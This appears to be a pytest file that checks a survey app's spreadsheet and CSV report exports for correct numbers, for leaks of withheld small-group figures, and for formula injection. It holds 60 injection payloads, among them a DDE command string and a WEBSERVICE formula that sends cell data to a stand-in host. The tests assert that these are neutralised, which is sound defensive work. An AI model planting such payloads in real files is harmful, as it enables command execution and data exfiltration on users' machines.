"""The report as a workbook: every number and suppression as in the report, nothing a formula, nothing withheld."""

import csv
import io
import itertools
import json
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import odfdo
import openpyxl
import pytest
from evaluation_documents import facts as facts_of
from evaluation_documents import goals, indicator, item, survey
from evaluation_documents import report as report_on
from evaluation_strategies import goal_systems
from facts_strategies import facts
from hypothesis import given, settings
from report_reading import SHEETS, compare, read_sheets, unzip

from survey_app.domain.network import Network
from survey_app.evaluation import Facts, GoalSystem, Report, evaluate, parse_facts, parse_goals
from survey_app.files import report_csv
from survey_app.files.report_formats import FORMATS
from survey_app.files.report_imprint import Imprint, imprint_draft
from survey_app.files.table_cells import LONGEST_CELL, text

ROOT = Path(__file__).parents[2]
IMPRINT = Imprint("Netz", "Nicht freigegeben", "netz@example.org")
BOOKS = ("xlsx", "ods")
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", " =", "\u00a0=", "\ufeff=")
ENDS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example","y")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://x.example/"&A1)',
)
PAYLOADS = [start + end for start, end in itertools.product(STARTS, ENDS)]


def slide(tier: str = "internal") -> Report:
    system = parse_goals((ROOT / "survey_app/content/freiburg-goals.toml").read_text(encoding="utf-8"))
    found = parse_facts((ROOT / "tests/data/results-slide.json").read_text(encoding="utf-8"))
    return evaluate(system, found.book, found.tallies, found.cut_off, tier=tier)


@pytest.mark.parametrize("kind", BOOKS)
@pytest.mark.parametrize("tier", ["internal", "public"])
def test_every_number_is_that_of_the_report_when_the_slide_is_read_back(kind: str, tier: str) -> None:
    report = slide(tier)
    sheets = read_sheets(FORMATS[kind].write(report, IMPRINT))
    compare(sheets, report)
    overview = {line["Angabe"]: line["Wert"] for line in sheets["Überblick"]}
    assert overview["Freigabe"] == "Nicht freigegeben"
    assert overview["Ansprechperson"] == "netz@example.org"
    contacts = next(line for line in sheets["Indikatoren"] if line["Indikator"] == "I5")
    assert (contacts["Wert"], contacts["Zähler"], contacts["Basis"]) == (0.5, 75, 150)
    assert contacts["Bewertung"] == "Ziel verfehlt"
    missing = next(line for line in sheets["Indikatoren"] if line["Indikator"] == "I1")
    assert (missing["Wert"], missing["Gründe"]) == (None, "Dazu ist nichts erfasst.")


@pytest.mark.slow
@settings(max_examples=25)
@given(goal_systems(), facts())
def test_every_number_is_that_of_the_report_when_random_ones_are_read_back(
    goal_system: GoalSystem, found: Facts
) -> None:
    for tier in ("internal", "public"):
        report = evaluate(goal_system, found.book, found.tallies, found.cut_off, tier=tier)
        for kind in BOOKS:
            compare(read_sheets(FORMATS[kind].write(report, IMPRINT)), report)


@pytest.mark.parametrize("kind", BOOKS)
def test_equal_reports_give_equal_bytes(kind: str) -> None:
    assert FORMATS[kind].write(slide(), IMPRINT) == FORMATS[kind].write(slide(), IMPRINT)


def withheld_report(tier: str) -> Report:
    """Return a report whose figures only coordinators may see: 347 of 641 agree, 294 do not."""
    head = goals("").split("[[goal]]", maxsplit=1)[0] + "[parameters]\nmin_group_public = 700\n"
    return report_on(goals(indicator(), head=head), facts_of(survey(item(347, 294), attended=853)), tier=tier)


@pytest.mark.parametrize("kind", [*BOOKS, "csv", "utf8.csv", "json", "txt"])
def test_withheld_numbers_are_nowhere_in_a_file(kind: str) -> None:
    shown, hidden = (FORMATS[kind].write(withheld_report(tier), IMPRINT) for tier in ("internal", "public"))
    if kind in BOOKS:
        shown, hidden = unzip(shown), unzip(hidden)
    withheld = re.compile(rb"347|294|0[.,]5413|54,1|459")
    assert withheld.search(shown), "the search finds what is shown"
    assert withheld.findall(hidden) == []


@pytest.mark.parametrize("kind", BOOKS)
def test_cells_are_empty_with_a_reason_when_a_figure_is_withheld(kind: str) -> None:
    (line,) = read_sheets(FORMATS[kind].write(withheld_report("public"), IMPRINT))["Zahlen"]
    for name in ("Wert", "Wert in Worten", "Zähler", "Basis", "Unsicherheit von", "Kipppunkt", "Geantwortet"):
        assert line[name] is None
    assert "Zu wenige Antworten: Ergebnisse kleiner Gruppen werden nicht gezeigt." in line["Gründe"]


def spell(payload: str) -> Report:
    """Return a report in which a payload is everything that people can write."""
    quoted = json.dumps(payload, ensure_ascii=False)
    document = goals(indicator(id_="I", text=quoted), head=goals("").split("[[goal]]", maxsplit=1)[0])
    document = document.replace('title = "Ein Netzwerk"', f"title = {quoted}").replace('"Ein Ziel"', quoted)
    return report_on(document.replace('id = "I"', f"id = {quoted}"), facts_of(survey(item(40, 24), attended=118)))


def test_there_are_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) == 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_people_wrote_is_a_formula_or_a_link(payload: str) -> None:
    report, imprint = spell(payload), imprint_draft(Network(1, "netz", payload, contact_email=payload))
    content = FORMATS["xlsx"].write(report, imprint)
    raw = unzip(content)
    assert not re.search(rb"<f[ >/]|<hyperlink|externalLink|ddeLink", raw)
    sheets = read_sheets(content)
    assert list(sheets) == SHEETS
    written = payload.strip()
    assert sheets["Indikatoren"][0]["Indikator"] in (payload, written)
    assert {line["Angabe"]: line["Wert"] for line in sheets["Überblick"]}["Netzwerk"] in (payload, written)
    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        # openpyxl takes any text that begins with "=" for a formula unless the cell is one of text.
        kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.hyperlink is None}
        assert kinds <= {"s", "n", "d"}


@pytest.mark.parametrize("dialect", [report_csv.GERMAN, report_csv.PLAIN])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_table_of_text_begins_a_formula(payload: str, dialect: report_csv.Dialect) -> None:
    content = report_csv.write_report(spell(payload), stamp=payload, dialect=dialect).decode("utf-8-sig")
    _header, row = csv.reader(io.StringIO(content, newline=""), delimiter=dialect.delimiter)
    assert (row[0], row[-1]) == (f"'{payload}", f"'{payload}")
    assert not any(cell.startswith(STARTS) for cell in row)


def test_headers_stay_in_sight_and_shares_are_percentages_in_the_workbook() -> None:
    book = openpyxl.load_workbook(io.BytesIO(FORMATS["xlsx"].write(slide(), IMPRINT)))
    assert all(sheet.freeze_panes == "A2" for sheet in book)
    sheet = book["Indikatoren"]
    columns = {cell.value: cell.column for cell in sheet[1]}
    row = next(row for row in sheet.iter_rows(min_row=2) if row[columns["Indikator"] - 1].value == "I4")
    value, low, target, until = (row[columns[name] - 1] for name in ("Wert", "Unsicherheit von", "Zielwert", "Bis"))
    assert (value.number_format, low.number_format) == ("0\u00a0%", "0.0\u00a0%")
    assert (value.data_type, target.value) == ("n", 0.6)
    assert until.is_date
    assert until.value.date() == date(2017, 4, 26)


def test_negative_number_stays_a_number_when_a_share_falls() -> None:
    change = indicator(
        "share_change", id_="C", indicator='"I"', against='"first_survey"', period='"survey"', target="-0.1"
    )
    recorded = facts_of(survey(item(50, 50)), survey(item(40, 60), id_="S2", date="2024-09-01"))
    report = report_on(goals(indicator(), change), recorded)
    for kind in BOOKS:
        line = read_sheets(FORMATS[kind].write(report, IMPRINT))["Zahlen"][-1]
        assert (line["Wert"], line["Zielwert"]) == (-0.1, -0.1)


def test_a_text_is_cut_off_visibly_when_no_cell_can_hold_it() -> None:
    cut = text("𝕏" * LONGEST_CELL).value
    assert isinstance(cut, str)
    assert cut.endswith("𝕏…")
    assert len(cut.encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert text("x" * LONGEST_CELL).value == "x" * LONGEST_CELL


def test_an_independent_reader_finds_types_and_nothing_active_in_the_open_spreadsheet() -> None:
    uneven = "Netz  eins\nZeile zwei"
    content = FORMATS["ods"].write(spell(PAYLOADS[0]), Imprint(uneven, "Nicht freigegeben"))
    assert not re.search(rb"table:formula|<text:a[ >]|xlink:href|<script|Feuille|fr-FR", unzip(content))
    document = odfdo.Document(io.BytesIO(content))
    assert document.get_type() == "spreadsheet"
    sheets = {sheet.name: sheet for sheet in document.body.tables}
    assert list(sheets) == SHEETS
    header, row = (sheets["Zahlen"].get_row_values(number) for number in (0, 1))
    assert row[header.index("Indikator")].startswith("=1+1")
    assert row[header.index("Zähler")] == 40
    value, low = (sheets["Zahlen"].get_cell((header.index(name), 1)) for name in ("Wert", "Unsicherheit von"))
    assert (value.type, low.type, value.value) == ("percentage", "percentage", Decimal("0.625"))
    assert value.get_elements("text:p")[0].text == "63\u00a0%"
    lines = sheets["Überblick"].get_cell((1, 2)).get_elements("text:p")
    assert [line.inner_text for line in lines] == uneven.split("\n")
    frozen = document.get_part("settings.xml").get_elements(
        '//config:config-item[@config:name="VerticalSplitPosition"]'
    )
    assert [item.text for item in frozen] == ["1"] * len(SHEETS)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        first = archive.infolist()[0]
        assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
